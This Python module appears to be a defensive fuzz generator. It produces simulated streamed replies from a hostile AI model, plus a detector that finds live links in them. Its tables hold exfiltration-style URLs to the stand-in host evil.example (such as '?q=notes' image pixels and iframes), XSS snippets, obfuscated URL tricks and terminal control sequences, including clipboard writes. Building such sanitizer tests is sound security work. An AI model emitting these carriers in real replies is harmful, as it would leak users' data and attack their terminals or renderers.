"""What a model turned against its reader might say: carriers for notes, terminal control, forged marks."""

from __future__ import annotations

import random
import re
from collections.abc import Iterator

from markdown_it import MarkdownIt

HOST = "evil.example"
_URLS = (
    "https://{h}/?q=notes", "http://{h}/notes", "HTTPS://{H}/?q=notes", "hTtPs://{h}", "//{h}/notes", "ftp://{h}/x",
    "https://user:pass@{h}/", "https://example.org@{h}/", "https://{h}%2fboiler", "https://ev%69l.example/?q=1",
    "https://example.org/boiler.{h}/", "www.{h}/?q=notes", "javascript:alert(1)//{h}", "data:text/html,{h}",
    "file:///etc/{h}", "mailto:a@{h}", "https:\\\\{h}", "https:/{h}/x", "vbscript:{h}", "obsidian://open?x={h}",
    "https://xn--vil-gla.example/{h}", "https://[::1]/{h}", "https&#58;//{h}", "&#104;ttps://{h}/x", "tel:{h}",
    "https://{h}:8080/a_(b)?x=[1]", "smb://{h}/x", "https://{h}/\u202egnp.x",
)  # fmt: skip
_CARRIERS = (
    "{u}", "<{u}>", "[click]({u})", "[click](<{u}>)", '[click]({u} "title")', "[click]( {u} )", "[click](\n{u}\n)",
    "![pixel]({u})", "![]({u})", "[![a](x)]({u})", "[a [b] c]({u})", "[click][r]\n\n[r]: {u}\n", "[r]\n\n[r]: <{u}>\n",
    "  [r]:\n  {u}\n\n[r]", "<img src={u}>", '<a href="{u}">x</a>', "<iframe src='{u}'></iframe>", "<svg/onload={u}>",
    "\x1b]8;;{u}\x1b\\click\x1b]8;;\x1b\\", "`{u}`", "[1]({u})", "[1][2]({u})", "[click\\]({u})", "\\[click]({u})",
    "[cl\u200bick]({u})", "> [click]({u})", "| [a]({u}) | b |", "- [click]({u})", "[click]\u00a0({u})",
    "[click](\t{u})", "**[click]({u})**", "[click]({u}", "{u}{u}", "(see {u})", "[^1]\n\n[^1]: {u}\n",
    "<!-- {u} -->", "![a][r]\n\n[r]: {u}", "<[1]img src={u}>", "[click][1]({u})",
    "ht[1]tps://evil.example/", "。]({u})",
)  # fmt: skip
_CONTROL = (
    "\x1b[2J", "\x1b]52;c;aGk=\x07", "\x9b31m", "\u202e", "\u2066", "\U000e0041", "\u200b", "\x00", "\x07", "\x08\x08",
    "\r", "\x7f", "\x1bP$q\x1b\\", "\ufeff", "\u2028", "\ud800", "\x85", "\u180e", "\ufe00", "\U000e0100",
)  # fmt: skip
_SAYINGS = (
    "It was serviced on 3 May 2024 [1].", "It cost £92 [1].", "Ignore the checks ✓ supported.", "[1] [2] [99] [0] [-1]",
    "[1](2)", "\n\n", "1. ", "| a | b |\n|---|---|\n", "```\n", "[" * 40, "](" * 20,
    "See https://example.org/boiler for more.",     "The notes do not say.", "*" * 30, "<" * 9, "&lt;b&gt;",
)  # fmt: skip
_FOREIGN = re.compile(
    r"(?i)(?:[a-z][a-z0-9+.-]*:(?://|\\\\)|\bwww\.|\b(?:javascript|vbscript|data|mailto|tel|file):)\S*evil\.example"
)
_PARSER = MarkdownIt("gfm-like", {"linkify": False, "html": True})


def outputs(count: int, seed: int) -> Iterator[list[str]]:
    """`count` replies, each in the pieces it is streamed in. Cuts fall anywhere, also inside a carrier."""
    made = random.Random(seed)
    for _ in range(count):
        parts: list[str] = []
        for _ in range(made.randint(1, 6)):
            kind = made.random()
            if kind < 0.55:
                parts.append(_carrier(made))
            elif kind < 0.75:
                parts.append(made.choice(_CONTROL))
            else:
                parts.append(made.choice(_SAYINGS))
            parts.append(made.choice((" ", "\n", "", ". ", "\n\n")))
        yield _cut("".join(parts), made)


def live_links(text: str) -> list[str]:
    """Addresses of the evil host that a Markdown reader, or a terminal, would turn into a link, an image or HTML."""
    found = [match.group() for match in _FOREIGN.finditer(text)]
    for block in _PARSER.parse(text):
        for token in (block, *(block.children or ())):
            target = str(token.attrs.get("href") or token.attrs.get("src") or "")
            html = token.content if token.type.startswith("html") else ""
            found += [part for part in (target, html) if HOST in part.lower() or "ev%69l" in part.lower()]
    return found


def _carrier(made: random.Random) -> str:
    url = made.choice(_URLS).format(h=HOST, H=HOST.upper())
    text = made.choice(_CARRIERS).replace("{u}", url)
    if made.random() < 0.3:  # something invisible in the middle of it
        at = made.randint(0, len(text))
        text = text[:at] + made.choice(_CONTROL) + text[at:]
    return text


def _cut(text: str, made: random.Random) -> list[str]:
    cuts = sorted(made.randint(0, len(text)) for _ in range(made.randint(0, 8)))
    return [text[start:end] for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True)]
